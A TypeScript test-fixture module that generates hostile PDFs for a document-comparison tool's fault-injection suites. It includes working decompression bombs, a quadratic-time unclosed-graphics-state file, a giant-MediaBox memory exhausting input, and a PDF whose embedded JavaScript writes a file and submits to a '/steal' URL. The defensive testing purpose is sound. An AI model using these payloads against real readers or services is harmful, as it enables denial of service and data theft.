/**
 * Poison inputs for the hostile-input and fault-injection suites: files that look like PDFs (or
 * claim to) but are truncated, damaged, locked, empty of text, enormous, carry active content, or
 * are tiny and cost a reader minutes or gigabytes.
 * Each is built byte by byte here — small, deterministic, and with no real document inside — so a
 * test can say exactly what the system must answer for it.
 */
import { createHash } from 'node:crypto';
import { constants, deflateRawSync, deflateSync } from 'node:zlib';

/** One indirect object's body (`<< … >>`, or a dictionary followed by a stream). */
type PdfObject = string | Buffer;

/**
 * Writes a PDF with a correct cross-reference table: object n is `objects[n - 1]`, object 1 is
 * the catalog. `trailerExtra` is added to the trailer dictionary (e.g. `/Encrypt 9 0 R`).
 */
function buildPdf(objects: PdfObject[], trailerExtra = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    const chunk = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`, 'latin1'), Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'), Buffer.from('\nendobj\n', 'latin1')]);
    offsets.push(offset);
    parts.push(chunk);
    offset += chunk.length;
  });
  const xref = [`xref\n0 ${objects.length + 1}\n`, '0000000000 65535 f \n', ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${offset}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

function stream(dict: string, data: Buffer): Buffer {
  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream', 'latin1')]);
}

const escapePdfText = (s: string) => s.replace(/[\\()]/g, (c) => `\\${c}`);

/** A short wording, one line per entry, enough for every stage to find a heading and clauses. */
const WORDING = [
  'HOME INSURANCE POLICY WORDING',
  '1. Definitions',
  '"Home" means the private dwelling shown in the schedule.',
  '2. What is covered',
  'We will pay for loss of or damage to the Home caused by fire, storm or flood.',
  'The most we will pay for any one claim is GBP 500,000.',
  '3. What is not covered',
  'We will not pay the first GBP 250 of any claim (the excess).',
  'We will not pay for loss or damage caused by wear and tear.',
  '4. Conditions',
  'You must tell us about a claim within 30 days.',
];

/** Content stream that writes `lines` top-down in 11 pt Helvetica. */
function textContent(lines: string[], top = 760): Buffer {
  const ops = lines.map((l, i) => `BT /F1 11 Tf 56 ${top - i * 18} Td (${escapePdfText(l)}) Tj ET`);
  return Buffer.from(ops.join('\n'), 'latin1');
}

/** Padding of an empty password in the standard security handler (ISO 32000-1 §7.6.3.3, Algorithm 2). */
const PASSWORD_PADDING = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
const FILE_ID = Buffer.from('0123456789abcdef0123456789abcdef', 'hex');
const md5 = (...parts: Buffer[]) => createHash('md5').update(Buffer.concat(parts)).digest();

function rc4(key: Buffer, data: Buffer): Buffer {
  const s = Array.from({ length: 256 }, (_, i) => i);
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + s[i]! + key[i % key.length]!) & 0xff;
    [s[i], s[j]] = [s[j]!, s[i]!];
  }
  const out = Buffer.alloc(data.length);
  for (let k = 0, i = 0, j = 0; k < data.length; k++) {
    i = (i + 1) & 0xff;
    j = (j + s[i]!) & 0xff;
    [s[i], s[j]] = [s[j]!, s[i]!];
    out[k] = data[k]! ^ s[(s[i]! + s[j]!) & 0xff]!;
  }
  return out;
}

/**
 * RC4 40-bit encryption (V1, R2) with an EMPTY user password and the owner password "owner": a
 * reader opens it without asking, as it opens real wordings "secured" against printing or copying.
 */
function emptyPasswordEncryption() {
  const owner = md5(Buffer.concat([Buffer.from('owner', 'latin1'), PASSWORD_PADDING]).subarray(0, 32)).subarray(0, 5);
  const o = rc4(owner, PASSWORD_PADDING);
  const p = -44;
  const pBytes = Buffer.alloc(4);
  pBytes.writeInt32LE(p);
  const key = md5(PASSWORD_PADDING, o, pBytes, FILE_ID).subarray(0, 5);
  const u = rc4(key, PASSWORD_PADDING);
  return {
    dict: `<< /Filter /Standard /V 1 /R 2 /Length 40 /O <${o.toString('hex')}> /U <${u.toString('hex')}> /P ${p} >>`,
    encryptStream: (objectNumber: number, data: Buffer) => rc4(md5(key, Buffer.from([objectNumber & 0xff, (objectNumber >> 8) & 0xff, (objectNumber >> 16) & 0xff, 0, 0])).subarray(0, 10), data),
  };
}

/** A page's content stream as written: its data (already encoded) and the filter entries of its dictionary. */
interface PageStream {
  data: Buffer;
  dict: string;
}

/**
 * A document of one page per stream (object numbers: 1 catalog, 2 pages, 3 font, then page +
 * content pairs, then `extraObjects`, then the encryption dictionary when `encrypted`).
 */
function pdfOfPageStreams(pageStreams: PageStream[], opts: { catalogExtra?: string; trailerExtra?: string; extraObjects?: PdfObject[]; encrypted?: boolean } = {}): Buffer {
  const n = pageStreams.length;
  const firstPage = 4;
  const kids = Array.from({ length: n }, (_, i) => `${firstPage + i * 2} 0 R`).join(' ');
  const encryption = opts.encrypted ? emptyPasswordEncryption() : null;
  const objects: PdfObject[] = [
    `<< /Type /Catalog /Pages 2 0 R ${opts.catalogExtra ?? ''}>>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${n} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
  ];
  pageStreams.forEach((content, i) => {
    const contentObject = firstPage + i * 2 + 1;
    objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents ${contentObject} 0 R >>`);
    objects.push(stream(content.dict, encryption ? encryption.encryptStream(contentObject, content.data) : content.data));
  });
  objects.push(...(opts.extraObjects ?? []));
  let trailerExtra = opts.trailerExtra ?? '';
  if (encryption) {
    objects.push(encryption.dict);
    trailerExtra += `/Encrypt ${objects.length} 0 R /ID [<${FILE_ID.toString('hex')}> <${FILE_ID.toString('hex')}>] `;
  }
  return buildPdf(objects, trailerExtra);
}

/** A document of `pages` pages, each with its own content stream (object numbers: 1 catalog, 2 pages, 3 font, then page + content pairs). */
function pagedPdf(pageContents: Buffer[], opts: { catalogExtra?: string; compress?: boolean; trailerExtra?: string; extraObjects?: PdfObject[] } = {}): Buffer {
  return pdfOfPageStreams(
    pageContents.map((content) => (opts.compress ? { data: deflateSync(content), dict: '/Filter /FlateDecode' } : { data: content, dict: '' })),
    opts,
  );
}

/** A small, valid text PDF: the healthy baseline the hostile variants are made from. */
export function plainTextPdf(lines: string[] = WORDING): Uint8Array {
  return pagedPdf([textContent(lines)]);
}

/** A valid PDF cut off part-way: no objects after the cut, no xref, no trailer. */
export function truncatedPdf(keepFraction = 0.35): Uint8Array {
  const full = pagedPdf([textContent(WORDING), textContent(WORDING)]);
  return full.subarray(0, Math.floor(full.length * keepFraction));
}

/**
 * A PDF whose cross-reference table points into nowhere and whose objects are overwritten with
 * garbage, so neither the xref nor a rebuild by scanning finds a page tree.
 */
export function corruptXrefPdf(): Uint8Array {
  const good = Buffer.from(plainTextPdf());
  const text = good.toString('latin1');
  const xrefAt = text.lastIndexOf('xref');
  const body = text.slice(0, xrefAt).replace(/\d+ 0 obj/g, (m) => 'x'.repeat(m.length)).replace(/endobj/g, 'xxxxxx');
  const xref = text.slice(xrefAt).replace(/(\d{10}) 00000 n/g, () => '9999999999 00000 n').replace(/startxref\n\d+/, 'startxref\n987654321');
  return Buffer.from(body + xref, 'latin1');
}

/**
 * A password-protected PDF (standard security handler, RC4 40-bit): its user password is not
 * empty, so a reader without the password cannot open it. O and U are fixed bytes that match no
 * password — a reader must refuse it exactly as it refuses a real locked file.
 */
export function encryptedPdf(): Uint8Array {
  const hex = (seed: number) => Array.from({ length: 32 }, (_, i) => ((seed * 31 + i * 97) & 0xff).toString(16).padStart(2, '0')).join('');
  const objects: PdfObject[] = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>',
    stream('', Buffer.from('garbled-ciphertext', 'latin1')),
    `<< /Filter /Standard /V 1 /R 2 /Length 40 /O <${hex(7)}> /U <${hex(11)}> /P -44 >>`,
  ];
  return buildPdf(objects, `/Encrypt 6 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>] `);
}

/** A "scanned" PDF: pages with only vector shapes (the grey of a scanned page), no text layer at all. */
export function scannedPdf(pages = 3): Uint8Array {
  const shapes = Buffer.from('0.85 g 40 40 515 762 re f 0.2 g 60 700 300 12 re f 60 680 420 8 re f 60 660 380 8 re f', 'latin1');
  return pagedPdf(Array.from({ length: pages }, () => shapes));
}

/** `pages` pages, each with one line of text (page counting is all a reader needs to refuse it). */
export function manyPagesPdf(pages = 1001): Uint8Array {
  return pagedPdf(Array.from({ length: pages }, (_, i) => textContent([`Page ${i + 1} of the schedule of endorsements.`])), { compress: true });
}

/**
 * `densePages` pages, each carrying `items` tiny text items (1 pt, one character each, in a grid),
 * plus the normal wording on a last page: a text-extraction and layout stress input. One page
 * of a million items stays under the 32 MB per-stream decompression limit.
 */
export function manyTextItemsPdf(items = 100_000, densePages = 1): Uint8Array {
  const cols = 500;
  const ops: string[] = ['BT /F1 1 Tf'];
  for (let i = 0; i < items; i++) {
    const x = 20 + (i % cols) * 1.1;
    const y = 820 - Math.floor(i / cols) * 1.2;
    ops.push(`1 0 0 1 ${x.toFixed(1)} ${y.toFixed(1)} Tm (${String.fromCharCode(97 + (i % 26))}) Tj`);
  }
  ops.push('ET');
  const dense = Buffer.from(ops.join('\n'), 'latin1');
  return pagedPdf([...Array.from({ length: densePages }, () => dense), textContent(WORDING)], { compress: true });
}

const MiB = 1024 * 1024;

/** Adler-32 (RFC 1950) of `head` followed by `count` bytes `byte`, computed without the bytes. */
function adler32OfPadded(head: Buffer, count: number, byte: number): number {
  const MOD = 65521n;
  let a = 1n;
  let b = 0n;
  for (const x of head) {
    a = (a + BigInt(x)) % MOD;
    b = (b + a) % MOD;
  }
  // n more bytes c: a grows by n·c, and b by n·a + c·n(n+1)/2.
  const n = BigInt(count);
  const c = BigInt(byte);
  b = (b + n * a + (c * n * (n + 1n)) / 2n) % MOD;
  a = (a + n * c) % MOD;
  return Number((b << 16n) | a);
}

/**
 * A zlib stream of `head` then `padding` spaces, built from one deflated MiB of spaces written
 * again and again: each segment ends in a full flush (byte-aligned, no reference to what came
 * before), so copies concatenate into one valid stream. A 1 GB bomb costs a 1 MB buffer and
 * milliseconds to make, not a gigabyte of memory and seconds of deflating.
 */
function zlibOfPadded(head: Buffer, padding: number): Buffer {
  const flushed = (data: Buffer) => deflateRawSync(data, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const parts: Buffer[] = [Buffer.from([0x78, 0xda]), flushed(head)];
  const segment = padding >= MiB ? flushed(Buffer.alloc(MiB, 0x20)) : null;
  for (let i = 0; i < Math.floor(padding / MiB); i++) parts.push(segment!);
  if (padding % MiB > 0) parts.push(flushed(Buffer.alloc(padding % MiB, 0x20)));
  parts.push(deflateRawSync(Buffer.alloc(0))); // the final, empty block
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(adler32OfPadded(head, padding, 0x20));
  parts.push(checksum);
  return Buffer.concat(parts);
}

export interface PdfBombOptions {
  /**
   * Times the content is Flate-encoded (`/Filter [/FlateDecode /FlateDecode]` for 2): each layer
   * multiplies the ratio by up to ~1,000, so 2 layers make a 1 GB bomb a file of a few kilobytes.
   */
  layers?: number;
  /** Encrypted (RC4, empty user password): a reader opens it without a password and inflates it. */
  encrypted?: boolean;
}

/**
 * A decompression bomb: a page whose Flate content stream is one line of wording followed by
 * `inflatedBytes` of padding (spaces), about a thousandth of that on disk per layer. A reader that
 * inflates it whole holds all of it in memory. The default (16 MB) is under the layout stage's
 * limits (32 MB a stream): it must be read, not refused; pass 1 GB for one that must be refused.
 */
export function pdfBomb(inflatedBytes = 16 * MiB, opts: PdfBombOptions = {}): Uint8Array {
  const layers = Math.max(1, opts.layers ?? 1);
  let data = zlibOfPadded(Buffer.concat([textContent(WORDING), Buffer.from('\n')]), inflatedBytes);
  for (let i = 1; i < layers; i++) data = deflateSync(data, { level: 9 });
  const filters = layers === 1 ? '/FlateDecode' : `[${Array.from({ length: layers }, () => '/FlateDecode').join(' ')}]`;
  return pdfOfPageStreams([{ data, dict: `/Filter ${filters}` }], { encrypted: opts.encrypted });
}

export interface UnclosedGraphicsStatesOptions {
  /** Pages that all list the one content stream (default 1): a reader pays for it on each. */
  pages?: number;
  /** Times each page lists the stream in its /Contents array (default 1: a reference, not an array): the nesting adds up. */
  repeats?: number;
  /** Encrypted (RC4, empty user password): the stream must be decrypted to be measured. */
  encrypted?: boolean;
}

/**
 * A page whose one Flate content stream opens `n` graphics states (`q`) and never closes them,
 * then writes the wording: a file of about 700 bytes that pdfjs reads in time that grows with
 * n² (20,000 took 15.7 s). With `pages`, every page lists the same stream; with `repeats`, each
 * lists it several times in a /Contents array, so the nesting carries on from one to the next.
 */
export function unclosedGraphicsStates(n = 20_000, opts: UnclosedGraphicsStatesOptions = {}): Uint8Array {
  const pages = Math.max(1, opts.pages ?? 1);
  const repeats = Math.max(1, opts.repeats ?? 1);
  const content = deflateSync(Buffer.concat([Buffer.from('q '.repeat(n), 'latin1'), textContent(WORDING)]));
  const encryption = opts.encrypted ? emptyPasswordEncryption() : null;
  // Objects: 1 catalog, 2 pages, 3 font, 4 the shared content stream, then the pages (then the encryption dictionary).
  const contents = repeats === 1 ? '4 0 R' : `[${Array.from({ length: repeats }, () => '4 0 R').join(' ')}]`;
  const objects: PdfObject[] = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${Array.from({ length: pages }, (_, i) => `${5 + i} 0 R`).join(' ')}] /Count ${pages} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    stream('/Filter /FlateDecode', encryption ? encryption.encryptStream(4, content) : content),
    ...Array.from({ length: pages }, () => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents ${contents} >>`),
  ];
  let trailerExtra = '';
  if (encryption) {
    objects.push(encryption.dict);
    trailerExtra = `/Encrypt ${objects.length} 0 R /ID [<${FILE_ID.toString('hex')}> <${FILE_ID.toString('hex')}>] `;
  }
  return buildPdf(objects, trailerExtra);
}

/**
 * The wording on a page `width` points wide (MediaBox [0 0 width 842]): a reader that sizes
 * anything by the page's width holds memory for all of it (2e8 points took a layout process from
 * 200 to 1,318 MB).
 */
export function giantMediaBoxPdf(width = 2e8): Uint8Array {
  const objects: PdfObject[] = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${width} 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>`,
    stream('', textContent(WORDING)),
  ];
  return buildPdf(objects);
}

/** The healthy wording, encrypted with an empty user password (what pdfjs opens without asking). */
export function emptyPasswordPdf(): Uint8Array {
  return pdfOfPageStreams([{ data: deflateSync(textContent(WORDING)), dict: '/Filter /FlateDecode' }], { encrypted: true });
}

/**
 * A normal wording that also carries document-level JavaScript (an OpenAction and a names-tree
 * script). A reader that executed it would write `markerPath`; a safe reader ignores it.
 */
export function javascriptPdf(markerPath = '/tmp/policydiff-js-executed'): Uint8Array {
  const js = `app.alert('pwned'); try { require('fs').writeFileSync(${JSON.stringify(markerPath)}, 'executed'); } catch (e) {} this.submitForm('http://127.0.0.1:9/steal');`;
  const action = `<< /Type /Action /S /JavaScript /JS (${escapePdfText(js)}) >>`;
  // Objects 1–3 are fixed, the page and its content are 4–5; the action is object 6.
  return pagedPdf([textContent(WORDING)], {
    catalogExtra: '/OpenAction 6 0 R /Names << /JavaScript << /Names [(init) 6 0 R] >> >> ',
    extraObjects: [action],
  });
}

/** Bytes that are not a PDF at all, as browsers and renamers produce them. */
export const notPdf = {
  /** A Windows executable renamed to .pdf. */
  exe: () => new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff, 0x00, 0x00]),
  /** An HTML error page saved as .pdf. */
  html: () => new TextEncoder().encode('<!DOCTYPE html><html><head><title>Session expired</title></head><body>Please log in</body></html>'),
  empty: () => new Uint8Array(0),
};

/** Every poison input by name, with what only parsing reveals about it (for the e2e suites). */
export const HOSTILE_PDFS = {
  truncated: truncatedPdf,
  corruptXref: corruptXrefPdf,
  encrypted: encryptedPdf,
  scanned: scannedPdf,
  manyPages: manyPagesPdf,
  manyTextItems: manyTextItemsPdf,
  bomb: pdfBomb,
  javascript: javascriptPdf,
  unclosedGraphicsStates,
  giantMediaBox: giantMediaBoxPdf,
} as const;
